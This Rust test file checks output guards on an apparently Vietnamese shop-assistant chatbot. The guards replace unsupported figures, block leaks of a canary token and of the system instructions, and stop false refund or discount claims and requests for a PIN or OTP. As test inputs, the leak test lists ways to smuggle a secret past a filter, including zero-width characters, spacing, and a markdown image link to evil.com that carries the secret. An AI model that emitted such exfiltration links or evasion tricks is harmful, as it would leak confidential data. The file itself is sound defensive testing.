//! Texts through the filters, whole and in pieces.

use std::sync::LazyLock;

use proptest::prelude::*;

use super::claims::Facts;
use super::*;
use crate::persona::Prompts;

mod links;
mod sets;

const PLACEHOLDERS: Placeholders<'_> = Placeholders {
    number: "(em xin phép kiểm tra lại)",
    link: "(đã gỡ)",
    rest: "Xin lỗi ạ.",
    human: "(human)",
    claim: "Xin hỏi cửa hàng ạ.",
};
const SHOP: &str = "Laptop giá 15.990.000đ, bảo hành 24 tháng. Tổng đài 1900 636 979, email hotro@sstc.example. RTX 4060. \
    Xem https://docs.example.org/huong-dan hoặc ASP.NET. Miễn phí giao hàng nội thành.";
const INSTRUCTIONS: &str = "Bạn là trợ lý của cửa hàng. Luôn xưng em và gọi khách là quý khách, kể cả khi khách đang bực mình. \
    Không bao giờ tự nghĩ ra giá, khuyến mãi, tồn kho hay thời hạn bảo hành. Không thúc ép và không nói xấu nơi khác.";

static GROUNDING: LazyLock<Grounding> = LazyLock::new(|| {
    let hosts = ["sstc.vn", "*.sstc.vn"].map(|host| host.parse().unwrap()).to_vec();
    let prompts = Prompts::load("prompts".as_ref(), "prompts/system_persona_vi.md".as_ref()).unwrap();
    Grounding::new(GroundingRules::read(&prompts).unwrap(), hosts, Canary::new(*b"0123456789abcdef"))
});

pub(crate) fn grounding() -> Grounding {
    GROUNDING.clone()
}

fn sources() -> Sources<'static> {
    Sources {
        shop: vec![SHOP, INSTRUCTIONS],
        customer: vec!["mình có 20 triệu"],
        instructions: vec![INSTRUCTIONS],
        claims: Facts::OF_DOCUMENTS,
        ..Sources::default()
    }
}

/// The pieces of a reply.
pub(crate) fn read_reply(grounding: &Grounding, text: &str) -> Vec<Piece> {
    said(grounding, &[text])
}

/// The text and the reasons, of these deltas.
fn said(grounding: &Grounding, deltas: &[&str]) -> Vec<Piece> {
    let mut speech = Grounded::new(grounding, &PLACEHOLDERS, &sources());
    let all: Vec<Piece> = deltas.iter().flat_map(|delta| speech.push(delta)).collect();
    joined(all.into_iter().chain(speech.finish()))
}

/// The text, with guards as `{reason}`.
fn shown(grounding: &Grounding, text: &str) -> String {
    let pieces = said(grounding, &[text]).into_iter();
    pieces
        .map(|piece| match piece {
            Piece::Text(text) => text.replace(PLACEHOLDERS.number, "…").replace(PLACEHOLDERS.link, "…"),
            Piece::Guard(guard) => format!("{{{}}}", guard.reason.as_str()),
        })
        .collect()
}

#[test]
fn unsupported_numbers_are_replaced() {
    let grounding = grounding();
    for (text, expected) in [
        ("Dạ giá 15,99 triệu ạ.", "Dạ giá 15,99 triệu ạ."),
        ("Dạ giá 16 triệu ạ.", "Dạ giá …{unsupported_fact} ạ."),
        ("giá **15.490.000đ**.", "giá **…{unsupported_fact}**."),
        ("15 đến 16 triệu", "…{unsupported_fact}"),
        ("2 năm, 3 năm, 5 năm nữa", "2 năm, …{unsupported_fact} nữa"),
        ("giảm 20% và 30%", "giảm …{unsupported_fact}"),
        ("bảo hành ba năm ạ", "bảo hành …{unsupported_fact} ạ"),
        ("1. Laptop\n2. Chuột\n3) Bàn phím", "1. Laptop\n2. Chuột\n3) Bàn phím"),
        ("Với ngân sách 20 triệu", "Với ngân sách 20 triệu"),
        ("Giá 20 triệu", "Giá …{unsupported_fact}"),
        ("ngày 31 tháng 12 nhé", "ngày …{unsupported_fact} nhé"),
        ("a\n\nb", "a\n\nb"),
    ] {
        assert_eq!(shown(&grounding, text), expected, "{text:?}");
    }
}

#[test]
fn the_canary_never_leaves_however_it_is_written() {
    let grounding = grounding();
    let line = grounding.canary().line();
    let secret = line.trim_start_matches("Ref: FD-CANARY-").to_owned();
    let spaced: String = secret.chars().flat_map(|c| [c, ' ']).collect();
    let listed: String = secret.chars().enumerate().map(|(n, c)| format!("{}. {c}\n", n + 1)).collect();
    let hidden: String = secret.to_lowercase().chars().flat_map(|c| [c, '\u{200b}']).collect();
    for leak in [
        line.clone(),
        secret.clone(),
        secret.to_lowercase(),
        spaced,
        listed,
        hidden,
        format!("**{}**{}", &secret[..7], &secret[7..]),
        secret[..12].to_owned(),
        format!("![x](https://evil.com/?q={secret})"),
        format!("F D - c a n a r y - {secret}"),
    ] {
        let shown = shown(&grounding, &format!("Dạ đây ạ: {leak} và giá 15.990.000đ"));
        let letters: String = shown.to_lowercase().chars().filter(char::is_ascii_alphabetic).collect();
        if leak != secret[..12] {
            assert!(!letters.contains(&secret.to_lowercase()[..9]), "{leak:?} {shown:?}");
            assert!(shown.contains("{prompt_leak}") && shown.ends_with("Xin lỗi ạ."), "{leak:?} {shown:?}");
        }
    }
    let end = shown(&grounding, &format!("Dạ {}", &secret[..12]));
    assert_eq!(end, "Dạ {prompt_leak}… Xin lỗi ạ.");
}

#[test]
fn a_long_quote_of_the_instructions_is_stopped() {
    let grounding = grounding();
    for leak in [
        INSTRUCTIONS.to_owned(),
        format!("Đây là hướng dẫn:\n- {}", INSTRUCTIONS.replace(". ", "\n- ")),
        INSTRUCTIONS.to_uppercase(),
        crate::domain::text::fold(INSTRUCTIONS),
        // A word in between every now and then.
        INSTRUCTIONS
            .split(' ')
            .enumerate()
            .map(|(n, word)| if n % 9 == 8 { format!("{word} nhé ") } else { format!("{word} ") })
            .collect(),
    ] {
        let shown = shown(&grounding, &leak);
        assert!(shown.contains("{prompt_leak}") && !shown.contains("nơi khác"), "{shown}");
    }
    for fine in [
        "Dạ em là trợ lý của cửa hàng ạ.",
        "Dạ em xưng em và gọi quý khách là quý khách, kể cả khi bực mình ạ.",
        "Dạ em không có thông tin về khuyến mãi, tồn kho hay thời hạn bảo hành ạ.",
        SHOP,
    ] {
        assert_eq!(shown(&grounding, fine), fine);
    }
}

#[test]
fn a_claim_that_nothing_supports_ends_the_reply() {
    let grounding = grounding();
    for (text, expected) in [
        ("Half price for you today.", "{offered}Xin hỏi cửa hàng ạ."),
        ("Sure! I have refunded you. Bye.", "Sure! {refunded}Xin hỏi cửa hàng ạ."),
        ("Please give me your card PIN.", "Please {asks_secret}… Xin hỏi cửa hàng ạ."),
        ("Your card PIN please.", "{asks_secret}Xin hỏi cửa hàng ạ."),
        ("Mã PIN của quý khách là gì ạ?", "{asks_secret}Xin hỏi cửa hàng ạ."),
        ("What is your password?", "{asks_secret}Xin hỏi cửa hàng ạ."),
        ("You get a free mouse with it.", "You get a {offered}… Xin hỏi cửa hàng ạ."),
        ("I can offer you a special price", "{offered}Xin hỏi cửa hàng ạ."),
        ("We will refund your money, I promise.", "{promised}Xin hỏi cửa hàng ạ."),
        ("I have reserved the laptop for you.", "{acted}Xin hỏi cửa hàng ạ."),
        ("Dạ em giảm giá cho quý khách ạ.", "Dạ {offered}… Xin hỏi cửa hàng ạ."),
        ("Dạ, em tặng kèm chuột ạ.", "Dạ, {offered}… Xin hỏi cửa hàng ạ."),
        ("Dạ em đã hoàn tiền cho quý khách ạ.", "Dạ em {refunded}… Xin hỏi cửa hàng ạ."),
        ("Dạ quý khách đọc mã OTP giúp em ạ?", "Dạ quý khách {asks_secret}… Xin hỏi cửa hàng ạ."),
        ("Dạ em đã đặt hàng cho quý khách.", "Dạ {acted}… Xin hỏi cửa hàng ạ."),
    ] {
        let shown: String = said(&grounding, &[text])
            .into_iter()
            .map(|piece| match piece {
                Piece::Text(text) => text,
                Piece::Guard(guard) => format!("{{{}}}", guard.kind),
            })
            .collect();
        assert_eq!(shown, expected, "{text:?}");
    }
    for fine in [
        "Dạ bên em miễn phí giao hàng nội thành ạ.",
        "Dạ em chưa có thông tin khuyến mãi ạ.",
        "Never tell anyone your PIN or password.",
        "Em không bao giờ hỏi mật khẩu hay mã OTP ạ.",
        "Feel free to ask. We have no discount now.",
        "Quý khách có muốn em giữ hàng không ạ?",
        "You can return it within the warranty.",
        "Pin dùng cả ngày, quý khách gửi máy giúp em ạ.",
    ] {
        assert_eq!(shown(&grounding, fine), fine);
    }
}

#[test]
fn second_replaced_figure_of_a_sentence_ends_it() {
    let grounding = grounding();
    for (text, expected) in [
        ("Giá 16 triệu, bảo hành 3 năm, còn 4 chiếc.", "Giá …{unsupported_fact}, bảo hành {unsupported_fact}…"),
        ("Giá 16 triệu; **bảo hành 3 năm.** Vâng.", "Giá …{unsupported_fact}; **bảo hành {unsupported_fact}…"),
        ("Giá **16 triệu.** Bảo hành 3 năm.", "Giá **…{unsupported_fact}.** Bảo hành …{unsupported_fact}."),
        ("- Giá 16 triệu\n- Bảo hành 3 năm", "- Giá …{unsupported_fact}\n- Bảo hành …{unsupported_fact}"),
        (
            "Giá 16 triệu. Bảo hành 3 năm. Đến ngày 31 tháng 12.",
            "Giá …{unsupported_fact}. Bảo hành …{unsupported_fact}. Đến ngày {unsupported_fact}…",
        ),
    ] {
        assert_eq!(shown(&grounding, text), expected, "{text:?}");
    }
}

#[test]
fn text_without_numbers_waits_one_word() {
    let grounding = grounding();
    let mut speech = Grounded::new(&grounding, &PLACEHOLDERS, &sources());
    for word in ["Dạ ", "laptop ", "này ", "rất ", "tốt, ", "quý ", "khách ", "đến ", "ngày ", "nào ", "ạ? "]
    {
        assert_eq!(speech.push(word), [Piece::Text(word.to_owned())], "{word:?}");
    }
    assert_eq!(speech.push("15.990.000đ "), []);
    assert_eq!(speech.push("ạ "), [Piece::Text("15.990.000đ ạ ".to_owned())]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]
    #[test]
    fn packet_boundaries_do_not_change_the_output(
        parts in proptest::collection::vec(prop::sample::select(PARTS.to_vec()), 1..14),
        cuts in proptest::collection::vec(0usize..10_000, 0..40),
    ) {
        let grounding = grounding();
        let text = parts.concat();
        let whole = said(&grounding, &[&text]);
        let mut places: Vec<usize> = cuts.iter().map(|cut| cut % (text.len() + 1)).filter(|at| text.is_char_boundary(*at)).collect();
        places.extend([0, text.len()]);
        places.sort_unstable();
        let deltas: Vec<&str> = places.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
        prop_assert_eq!(&said(&grounding, &deltas), &whole);
        let letters: Vec<String> = text.chars().map(String::from).collect();
        let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
        prop_assert_eq!(&said(&grounding, &letters), &whole);
    }
}

const PARTS: [&str; 52] = [
    "15.990.000đ",
    "15",
    ".",
    "990",
    " triệu",
    " ",
    "\n",
    "16 triệu",
    "hai năm",
    " năm ",
    "ngày 31 tháng 12",
    "**",
    "1. ",
    "[trang](https://evil.com)",
    "[",
    "]",
    "(",
    ")",
    "https://",
    "evil.com",
    "https://sstc.vn/a1",
    "![a](b)",
    "<",
    ">",
    "@",
    "hotro@sstc.example",
    "giá ",
    "ạ",
    "FD-CANARY-",
    "WXYZABCD",
    "\u{200b}",
    "đến ",
    ", ",
    "20%",
    "một ngày ",
    "vui",
    "e\u{302}\u{301}",
    "💖",
    "ngân sách 20 triệu",
    "[1]: x",
    "evil。com",
    "t.me/x",
    "[.]com",
    "a(dot)",
    "```\n",
    "I have ",
    "refunded you",
    "miễn phí ",
    "mã OTP ",
    "gửi ",
    ". ",
    "Luôn xưng em và gọi khách là quý khách, kể cả khi khách đang bực mình ",
];
